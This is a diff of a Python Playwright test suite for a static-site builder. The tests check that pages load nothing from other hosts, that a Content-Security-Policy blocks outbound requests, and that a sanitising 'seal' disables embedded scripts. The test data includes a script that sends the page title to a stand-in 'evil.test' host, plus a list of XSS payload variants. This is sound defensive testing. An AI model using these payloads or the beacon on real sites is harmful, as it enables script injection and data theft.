@@ -1539,18 +1539,15 @@ def test_diagrams_draw_in_a_site_opened_from_disk(page: Any, diagrams: Server) -
 
 
 def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Path) -> None:
-    """An item showing a partner's photo by its address, an embedded video, a script and a stylesheet from other
-    hosts: the browser opening it asked each of those hosts for them, telling them who read the (internal) page; and
-    speculation rules had it fetch the pages of its links as it opened (a hostile review). It now asks no other host
-    for anything; the photo's description shows, and the link to the partner stays."""
+    """An item showing a partner's photo by its address, an embedded video and a stylesheet from other hosts: the
+    browser opening it asked each of those hosts for them, telling them who read the (internal) page (a hostile
+    review). It now asks no other host for anything; the photo's description shows, and the link to the partner
+    stays. (A script of the page's own, from another host or speculation rules, is an error: page-script.)"""
     body = (
         "![Our team](https://partner.example.org/team.jpg)\n\n"
         '<iframe src="https://video.example.com/embed/1"></iframe>\n'
-        '<script src="https://cdn.example.net/widget.js"></script>\n'
         '<link rel="stylesheet" href="https://fonts.example.com/a.css">\n\n'
-        "[The partner](https://partner.example.org/)\n\n"
-        '<script type="speculationrules">{"prefetch": [{"where": {"href_matches": "*://*:*/*"}, '
-        '"eagerness": "immediate"}]}</script>\n'
+        "[The partner](https://partner.example.org/)\n"
     )
     with _served_internal_item(tmp_path, "shown", body) as (server, _):
         requested: list[str] = []
@@ -1562,16 +1559,18 @@ def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Pat
         assert page.locator('a[href="https://partner.example.org/"]').count() == 1
 
 
-def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path: Path) -> None:
-    """What the seal cannot read, a script of an item's raw HTML that builds an address, loaded from another host
-    (a hostile review): the browser itself now refuses, as every page of the site carries a Content-Security-Policy
-    allowing its own files only. The script runs (the refusals are seen), and whatever it asks of another host is
-    blocked by the policy before it leaves the browser."""
-    body = (
-        "Text.\n\n<script>\nconst host = 'https://h44.' + 'evil.test/';\nnew Image().src = host + 'pixel.gif';\n"
-        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n</script>\n"
+def test_a_script_cannot_load_from_another_website(page: Any, tmp_path: Path) -> None:
+    """What the seal cannot read, a script that builds an address and loads from another host (a hostile review: an
+    item's own, now refused, page-script; here the site's own, which mkdocs.yml names): the browser itself refuses,
+    as every page of the site carries a Content-Security-Policy allowing its own files only. The script runs (the
+    refusals are seen), and whatever it asks of another host is blocked by the policy before it leaves the
+    browser."""
+    script = (
+        "const host = 'https://h44.' + 'evil.test/';\nnew Image().src = host + 'pixel.gif';\n"
+        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n"
     )
-    with _served_internal_item(tmp_path, "scripted", body) as (server, site):  # the widest build
+    site_script = {"evidence/js/site.js": script, "mkdocs.yml": MKDOCS_YML + "extra_javascript: [js/site.js]\n"}
+    with _served_internal_item(tmp_path, "scripted", "Text.\n", site_script) as (server, site):  # the widest build
         elsewhere: list[tuple[str, str]] = []  # each request to another host, and why it failed
         page.on("requestfinished", lambda request: elsewhere.append((request.url, "finished")))
         page.on("requestfailed", lambda request: elsewhere.append((request.url, request.failure or "")))
@@ -1591,12 +1590,53 @@ def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path
         assert not_found.count('<meta http-equiv="Content-Security-Policy"') == 1
 
 
+SCRIPTS_IN_A_PAGE = (
+    '<script>window.ran = "script"</script>',
+    '<SCRIPT type="Module">window.ran = "module"</SCRIPT>',
+    '<script>window.ran = "spaced end"</script x>',
+    '<img src="missing.png" alt="a" OnError="window.ran = \'handler\'">',
+    '<svg><script>window.ran = "svg"</script></svg>',
+    "<svg onload=\"window.ran = 'svg handler'\"></svg>",
+    "<iframe srcdoc=\"&lt;script&gt;parent.ran = 'srcdoc'&lt;/script&gt;\"></iframe>",
+    '<<script>window.ran = "joined"</script>script>window.ran = "joined"</script>',
+    "<details open ontoggle=\"window.ran = 'toggle'\"><summary>s</summary></details>",
+    '<a href="javascript:void(window.ran = \'link\')" id="go">go</a>',
+)
+
+
+@pytest.mark.parametrize("html", SCRIPTS_IN_A_PAGE)
+def test_a_pages_own_script_runs_in_no_browser(page: Any, html: str) -> None:
+    """What the seal leaves of a page's own script, however it is written (the check names each, page-script; the
+    seal makes inert whatever a page's HTML still holds): opened in Chromium, no script of it runs, and a link that
+    would run one, clicked, runs none. The same HTML unsealed runs (the test tests something)."""
+    from evidence_portfolio.site.seal import SiteMap, seal
+
+    def ran(shown: str) -> object:
+        html = f"<!doctype html><html><body>{shown}</body></html>"
+        page.route("http://portfolio.test/a/", lambda route: route.fulfill(content_type="text/html", body=html))
+        page.goto("http://portfolio.test/a/")
+        page.wait_for_timeout(100)
+        if page.locator("a#go").count():
+            page.locator("a#go").click()
+        found = page.evaluate("window.ran")
+        page.unroute("http://portfolio.test/a/")
+        return found
+
+    assert ran(html) is not None
+    assert ran(seal(html, "a/", SiteMap(frozenset({"index.html"}))).html) is None
+
+
 @contextlib.contextmanager
-def _served_internal_item(tmp_path: Path, name: str, body: str) -> Iterator[tuple[Server, Path]]:
-    """The widest (internal) build of a project holding one internal item with `body`, served; and its site."""
+def _served_internal_item(
+    tmp_path: Path, name: str, body: str, files: dict[str, str] | None = None
+) -> Iterator[tuple[Server, Path]]:
+    """The widest (internal) build of a project holding one internal item with `body` (and `files`), served; and its
+    site."""
     project = Project(tmp_path / "project")
     project.write("framework.yml", FRAMEWORK)
     project.write("mkdocs.yml", MKDOCS_YML)
+    for path, text in (files or {}).items():
+        project.write(path, text)
     front_matter = (
         f"title: {name.title()}\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal"
     )
